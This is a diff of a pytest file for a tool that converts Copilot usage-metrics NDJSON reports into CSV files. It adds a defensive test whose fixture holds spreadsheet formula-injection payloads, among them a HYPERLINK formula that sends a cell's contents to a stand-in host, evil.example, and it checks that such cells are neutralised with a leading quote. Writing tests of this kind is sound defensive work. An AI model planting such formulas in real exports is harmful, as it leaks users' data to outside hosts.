@@ -14,7 +14,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from copilot_metrics import tabular
+from copilot_metrics import ndjson, schema, tabular
 from emulator import data
 
 FIXTURES = Path(__file__).parent / "fixtures"
@@ -27,56 +27,32 @@ COUNTERS = [
     "loc_added_sum",
     "loc_deleted_sum",
 ]
-CLI = [
-    "totals_by_cli.session_count",
-    "totals_by_cli.request_count",
-    "totals_by_cli.prompt_count",
-    "totals_by_cli.token_usage.output_tokens_sum",
-    "totals_by_cli.token_usage.prompt_tokens_sum",
-    "totals_by_cli.token_usage.avg_tokens_per_request",
+AGGREGATE_COLUMNS = [*schema.columns("aggregate"), "other_fields"]
+USERS_COLUMNS = [*schema.columns("users"), "other_fields"]
+AGGREGATE_FILES = [
+    "by_ide",
+    "by_feature",
+    "by_language_feature",
+    "by_language_model",
+    "by_model_feature",
+    "by_3rd_party_agent",
+    "by_ai_adoption_phase",
+    "by_comment_type",
+    "by_engaged_feature",
 ]
-PULL_REQUESTS = [
-    "pull_requests.total_created",
-    "pull_requests.total_reviewed",
-    "pull_requests.total_merged",
-    "pull_requests.total_created_by_copilot",
-    "pull_requests.total_reviewed_by_copilot",
-    "pull_requests.total_merged_created_by_copilot",
-    "pull_requests.median_minutes_to_merge",
+USERS_FILES = [
+    "by_ide",
+    "by_feature",
+    "by_language_feature",
+    "by_language_model",
+    "by_model_feature",
+    "by_3rd_party_agent",
+    "by_custom_agent",
+    "by_mcp",
+    "by_plugin",
+    "by_skill",
+    "by_slash_cmd",
 ]
-AGGREGATE_COLUMNS = [
-    "day",
-    "report_start_day",
-    "report_end_day",
-    "organization_id",
-    "enterprise_id",
-    "daily_active_users",
-    "weekly_active_users",
-    "monthly_active_users",
-    "monthly_active_chat_users",
-    "monthly_active_agent_users",
-    *COUNTERS,
-    *CLI,
-    *PULL_REQUESTS,
-    "other_fields",
-]
-USERS_COLUMNS = [
-    "day",
-    "user_id",
-    "user_login",
-    "organization_id",
-    "enterprise_id",
-    *COUNTERS,
-    "used_agent",
-    "used_chat",
-    "used_cli",
-    "last_known_ide_version.ide",
-    "last_known_ide_version.ide_version",
-    "ai_credits_used",
-    *CLI,
-    "other_fields",
-]
-BREAKDOWN_FILES = ["by_ide", "by_feature", "by_language_feature", "by_language_model", "by_model_feature"]
 
 
 def copy(tmp_path: Path, name: str) -> Path:
@@ -100,9 +76,10 @@ def test_aggregate_report_gives_a_day_file_and_one_file_per_breakdown(tmp_path: 
     written = tabular.write_csv(source, "organization-28-day")
 
     stem = "organization-28-day_part-1"
-    assert written == [tmp_path / f"{stem}.csv", *(tmp_path / f"{stem}.{name}.csv" for name in BREAKDOWN_FILES)]
+    assert written == [tmp_path / f"{stem}.csv", *(tmp_path / f"{stem}.{name}.csv" for name in AGGREGATE_FILES)]
     assert sorted(path.name for path in tmp_path.iterdir()) == sorted([source.name, *(p.name for p in written)])
     assert header(written[0]) == AGGREGATE_COLUMNS
+    assert header(written[0])[:5] == ["report_start_day", "report_end_day", "day", "enterprise_id", "organization_id"]
     days = read(written[0])
     assert [row["day"] for row in days] == ["2026-03-01", "2026-03-02"]
     first = days[0]
@@ -123,6 +100,7 @@ def test_breakdown_rows_are_one_per_day_and_key(tmp_path: Path) -> None:
 
     by_ide = Path(f"{stem}.by_ide.csv")
     assert header(by_ide) == ["day", "organization_id", "enterprise_id", "ide", *COUNTERS, "other_fields"]
+    assert header(Path(f"{stem}.by_ai_adoption_phase.csv"))[3:6] == ["phase", "phase_number", "total_engaged_users"]
     rows = [(row["day"], row["ide"], row["code_generation_activity_count"]) for row in read(by_ide)]
     assert rows == [("2026-03-01", "vscode", "12"), ("2026-03-01", "jetbrains", "8"), ("2026-03-02", "vscode", "30")]
     by_language_feature = read(Path(f"{stem}.by_language_feature.csv"))
@@ -163,7 +141,7 @@ def test_one_day_aggregate_lines_are_days_themselves(tmp_path: Path) -> None:
         ("2026-03-04", "1", "10"),
         ("2026-03-04", "2", "1"),
     ]
-    models = read(written[5])
+    models = read(next(path for path in written if path.name.endswith(".by_model_feature.csv")))
     assert [(row["enterprise_id"], row["model"], row["code_generation_activity_count"]) for row in models] == [
         ("1", "claude-sonnet-4", "200"),
         ("2", "gpt-4.1", "2"),
@@ -175,7 +153,10 @@ def test_users_report_gives_one_row_per_user_day(tmp_path: Path) -> None:
 
     written = tabular.write_csv(source, "users-28-day")
 
-    assert len(written) == 6
+    assert [path.name for path in written] == [
+        "users-28-day_part-1.csv",
+        *(f"users-28-day_part-1.{name}.csv" for name in USERS_FILES),
+    ]
     assert header(written[0]) == USERS_COLUMNS
     rows = read(written[0])
     assert [(row["day"], row["user_id"], row["user_login"]) for row in rows] == [
@@ -185,11 +166,18 @@ def test_users_report_gives_one_row_per_user_day(tmp_path: Path) -> None:
     ]
     alice = rows[0]
     assert (alice["used_agent"], alice["used_chat"], alice["used_cli"]) == ("true", "true", "false")
-    assert alice["last_known_ide_version.ide_version"] == "1.106.0"
     assert alice["ai_credits_used"] == "1.5"
     assert alice["totals_by_cli.session_count"] == "0"
+    assert alice["other_fields"] == ""
     by_ide = read(written[1])
-    assert list(by_ide[0])[:4] == ["day", "user_id", "user_login", "ide"]
+    assert list(by_ide[0])[:6] == ["day", "user_id", "user_login", "organization_id", "enterprise_id", "ide"]
+    versions = [
+        "last_known_ide_version.ide_version",
+        "last_known_plugin_version.plugin",
+        "last_known_plugin_version.plugin_version",
+    ]
+    assert [by_ide[0][name] for name in versions] == ["1.106.0", "copilot-chat", "0.33.1"]
+    assert by_ide[0]["other_fields"] == ""
     assert [(row["user_login"], row["ide"]) for row in by_ide] == [
         ("alice", "vscode"),
         ("bob", "jetbrains"),
@@ -240,30 +228,34 @@ def test_user_teams_and_repos_give_one_row_per_line(tmp_path: Path) -> None:
 
     assert team_files == [tmp_path / "user-teams-1-day_part-1.csv"]
     assert header(team_files[0]) == [
-        "day", "user_id", "user_login", "team_id", "slug", "organization_id", "enterprise_id", "other_fields",
+        "day", "enterprise_id", "organization_id", "user_id", "user_login", "team_id", "slug", "other_fields",
     ]  # fmt: skip
     assert [(row["slug"], row["other_fields"]) for row in read(team_files[0])] == [
         ("platform", ""),
         ("platform", ""),
         ("web", '{"team_name":"Web"}'),
     ]
-    assert repo_files == [tmp_path / "repos-1-day.csv"]
-    assert header(repo_files[0]) == [
-        "day", "repository_id", "repository", "organization_id", "enterprise_id", *COUNTERS, *PULL_REQUESTS,
-        "other_fields",
+    assert [path.name for path in repo_files] == [
+        "repos-1-day.csv",
+        "repos-1-day.by_comment_type.csv",
+        "repos-1-day.by_review_times.csv",
+    ]
+    assert header(repo_files[0])[:7] == [
+        "day", "enterprise_id", "organization_id", "repo_id", "repo_owner_name", "repo_name", "repo_visibility",
     ]  # fmt: skip
     rows = read(repo_files[0])
     assert len(rows) == 5
-    assert (rows[0]["repository"], rows[0]["pull_requests.total_merged"]) == ("octo/api", "1")
-    assert rows[2]["repository"] == "" and rows[2]["other_fields"] == '{"repository.full_name":"octo/nested"}'
+    assert [(row["repo_owner_name"], row["repo_name"], row["pull_requests.total_merged"]) for row in rows[:2]] == [
+        ("octo", "api", "1"),
+        ("octo", "web", "9"),
+    ]
+    assert rows[2]["other_fields"] == '{"stars":3}'
     assert rows[4]["other_fields"] == '{"foo":1}'
-
-
-def test_report_kinds_come_from_the_report_name() -> None:
-    kinds = {name: tabular.report_kind(name) for name in ("organization-28-day", "enterprise-1-day", "users-1-day")}
-    assert kinds == {"organization-28-day": "aggregate", "enterprise-1-day": "aggregate", "users-1-day": "users"}
-    assert tabular.report_kind("user-teams-1-day") == "user-teams"
-    assert tabular.report_kind("repos-1-day") == "repos"
+    stages = read(repo_files[2])
+    assert [(row["repo_name"], row["authored_by"], row["median_minutes_ready_to_first_review"]) for row in stages] == [
+        ("api", "human", "30"),
+        ("web", "human", "120"),
+    ]
 
 
 def test_a_failed_conversion_leaves_no_file_behind(tmp_path: Path) -> None:
@@ -276,13 +268,13 @@ def test_a_failed_conversion_leaves_no_file_behind(tmp_path: Path) -> None:
 
 
 def test_an_overlong_line_is_skipped_without_reading_it_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(tabular, "MAX_LINE_BYTES", 64)
+    monkeypatch.setattr(ndjson, "MAX_LINE_BYTES", 64)
     source = tmp_path / "users.ndjson"
     source.write_text(
         '{"day":"2026-03-01","user_id":1}\n{"day":"' + "x" * 500 + '"}\n{"day":"2026-03-02","user_id":2}\n'
     )
 
-    assert [record and record["user_id"] for record in tabular.records(source)] == [1, None, 2]
+    assert [record and record["user_id"] for record in ndjson.records(source)] == [1, None, 2]
 
 
 def test_emulator_users_report_converts_every_line(tmp_path: Path) -> None:
@@ -331,7 +323,7 @@ def test_a_200_mb_users_report_is_converted_in_constant_memory(tmp_path: Path) -
 
 _VALUES = st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.lists(st.integers(), max_size=2)
 _RECORDS = st.dictionaries(
-    st.sampled_from(["day", "user_id", "slug", "repository", "totals_by_ide", "pull_requests", "new", "a.b"]),
+    st.sampled_from(["day", "user_id", "slug", "repo_name", "totals_by_ide", "pull_requests", "new", "a.b"]),
     _VALUES | st.dictionaries(st.sampled_from(["ide", "total_created", "x"]), _VALUES, max_size=3),
     max_size=6,
 )
@@ -354,6 +346,85 @@ def test_every_object_line_becomes_one_row_with_the_same_header(tmp_path: Path, 
 
     with main.open(encoding="utf-8", newline="") as stream:
         table = list(csv.reader(stream))
-    assert table[0] == [*tabular.LAYOUTS[tabular.report_kind(report)].columns, "other_fields"]
+    assert table[0] == [*schema.columns(schema.report_named(report).kind), "other_fields"]
     assert len(table) - 1 == objects
     assert all(len(row) == len(table[0]) for row in table)
+
+
+def test_text_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(tmp_path: Path) -> None:
+    source = tmp_path / "users.ndjson"
+    line = {
+        "day": "2026-03-02",
+        "user_id": 1,
+        "user_login": "@SUM(1+1)",
+        "loc_deleted_sum": -3,
+        "ai_credits_used": -0.5,
+        "totals_by_ide": [
+            {"ide": '=HYPERLINK("https://evil.example/?"&C2,"open")', "code_generation_activity_count": 1},
+            {"ide": "+cmd", "last_known_ide_version": {"ide_version": "-2+3"}},
+            {"ide": "\tvscode"},
+            {"ide": "\rvscode"},
+            {"ide": "vscode=1"},
+        ],
+    }
+    source.write_text(json.dumps(line) + "\n")
+
+    written = tabular.write_csv(source, "users-1-day")
+
+    main = read(written[0])[0]
+    assert main["user_login"] == "'@SUM(1+1)"
+    assert (main["loc_deleted_sum"], main["ai_credits_used"]) == ("-3", "-0.5")
+    by_ide = read(written[1])
+    assert [row["ide"] for row in by_ide] == [
+        '\'=HYPERLINK("https://evil.example/?"&C2,"open")',
+        "'+cmd",
+        "'\tvscode",
+        "'\rvscode",
+        "vscode=1",
+    ]
+    assert by_ide[1]["last_known_ide_version.ide_version"] == "'-2+3"
+    assert by_ide[0]["user_login"] == "'@SUM(1+1)"
+    assert by_ide[0]["code_generation_activity_count"] == "1"
+
+
+def test_a_formula_in_an_undocumented_field_cannot_start_the_other_fields_cell(tmp_path: Path) -> None:
+    source = tmp_path / "teams.ndjson"
+    source.write_text('{"day":"2026-03-02","slug":"web","=cmd":"x"}\n')
+
+    main = tabular.write_csv(source, "user-teams-1-day")[0]
+
+    assert read(main)[0]["other_fields"] == '{"=cmd":"x"}'
+
+
+def test_colliding_dotted_keys_keep_every_value(tmp_path: Path) -> None:
+    source = tmp_path / "org.ndjson"
+    source.write_text(
+        '{"day":"2026-03-02","a.b":1,"a":{"b":2},"pull_requests.total_created":5,"pull_requests":{"total_created":2}}\n'
+    )
+
+    main = tabular.write_csv(source, "organization-1-day")[0]
+
+    row = read(main)[0]
+    assert row["pull_requests.total_created"] == "2"
+    assert json.loads(row["other_fields"]) == {"a\\.b": 1, "a.b": 2, "pull_requests\\.total_created": 5}
+    assert tabular.flatten({"a.b": 1, "a": {"b": 2}, "c\\": {"d": 3}}) == {"a\\.b": 1, "a.b": 2, "c\\\\.d": 3}
+
+
+def test_only_ndjson_files_are_converted(tmp_path: Path) -> None:
+    downloaded = tmp_path / "report.csv"
+    downloaded.write_text("GitHub's own file\n")
+    other = tmp_path / "report.json"
+    other.write_text('{"day":"2026-03-02"}\n')
+
+    assert tabular.write_csv(downloaded, "users-1-day") == []
+    assert tabular.write_csv(other, "users-1-day") == []
+    assert downloaded.read_text() == "GitHub's own file\n"
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["report.csv", "report.json"]
+
+
+def test_every_name_a_conversion_writes_is_a_reserved_name(tmp_path: Path) -> None:
+    for report in schema.REPORTS:
+        for path in tabular.csv_paths(tmp_path / "x.ndjson", report):
+            assert tabular.is_derived_name(path.name)
+    assert tabular.is_derived_name("REPORT.CSV")
+    assert not tabular.is_derived_name("report.ndjson")
